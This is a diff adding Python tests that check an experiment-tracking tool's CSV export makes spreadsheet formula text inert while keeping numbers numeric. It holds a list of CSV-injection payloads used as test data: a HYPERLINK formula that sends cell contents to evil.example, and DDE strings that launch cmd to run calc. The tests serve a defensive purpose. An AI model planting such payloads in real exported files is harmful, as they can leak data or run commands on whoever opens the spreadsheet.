@@ -200,3 +200,45 @@ def test_to_pandas_is_a_dataframe_of_the_export_rows(sp):
     assert frame["config.shift"].tolist() == [0.5, 0.5, 0.5]
     pd.testing.assert_frame_equal(frame[["seed", "status", "metric.val_loss", "config.shift"]],
                                   exported[["seed", "status", "metric.val_loss", "config.shift"]])
+
+
+#: text a spreadsheet would run as a formula (OWASP's CSV injection): each starts with = + - @ TAB or CR
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1,2", '="a"""', "-", "+", "@"]
+
+
+def test_csv_text_a_spreadsheet_would_run_is_quoted_and_numbers_stay_numbers():
+    inert = {f"config.f{i}": v for i, v in enumerate(FORMULAS)}
+    numbers = {"metric.a": float("-inf"), "metric.b": -1.5, "metric.c": -3, "metric.d": float("nan"),
+               "config.e": "-1.5", "config.g": "-inf", "config.h": "+2", "config.i": "-1e-05", "error": None}
+    plain = {"sweep": "a=b", "workload": "x-1", "config.j": "[1, 2]", "config.k": " =1"}
+    row = {**inert, **numbers, **plain}
+    cols = list(row)
+    got = next(csv.DictReader(io.StringIO(render(cols, [row], "csv"))))
+    assert {c: got[c] for c in inert} == {c: "'" + v for c, v in inert.items()}
+    assert {c: got[c] for c in numbers} == {"metric.a": "-inf", "metric.b": "-1.5", "metric.c": "-3", "metric.d": "nan",
+                                            "config.e": "-1.5", "config.g": "-inf", "config.h": "+2",
+                                            "config.i": "-1e-05", "error": ""}
+    assert {c: got[c] for c in plain} == plain
+    line = json.loads(render(cols, [row], "jsonl"))  # JSON lines hold the text exactly
+    assert {c: line[c] for c in (*inert, *plain)} == {**inert, **plain} and line["metric.a"] == "-inf"
+
+
+def test_a_stored_run_with_formula_text_exports_it_inert(tmp_path, cli):
+    from firstdiv.lab.record import RunRecord
+
+    store = tmp_path / "runs.db"
+    with Store(store) as st:
+        info = st.upsert_sweep(FORMULAS[0], "ident", "w.py:train", {"config": {}}, [0])
+        st.add(RunRecord(workload=FORMULAS[1], seed=0, config={"x": FORMULAS[2], "lr": -0.5}, config_hash="c",
+                         identity="ident", code={}, env={}, env_hash="e", data_identity=None, eval_contract=None,
+                         eval_fingerprint=None, eval_fields=[], curves={FORMULAS[3]: [1.0, -2.0]},
+                         final={FORMULAS[3]: -2.0}, directions={}, grad_norm={}, throughput={}, wall_seconds=1.0,
+                         status="failed", error=FORMULAS[4]), sweep=info)
+    [row] = list(csv.DictReader(io.StringIO(cli("export", "--store", store).stdout)))
+    assert (row["sweep"], row["workload"], row["config.x"], row["error"]) == tuple("'" + f for f in FORMULAS[:3]) + (
+        "'" + FORMULAS[4],)
+    assert row["config.lr"] == "-0.5" and row[f"metric.{FORMULAS[3]}"] == "-2.0"
+    curves = list(csv.DictReader(io.StringIO(cli("export", "--store", store, "--curves").stdout)))
+    assert [(r["metric"], r["value"]) for r in curves] == [("'" + FORMULAS[3], "1.0"), ("'" + FORMULAS[3], "-2.0")]
+    assert json.loads(export(store, fmt="jsonl"))["workload"] == FORMULAS[1]  # JSON lines keep the text exactly
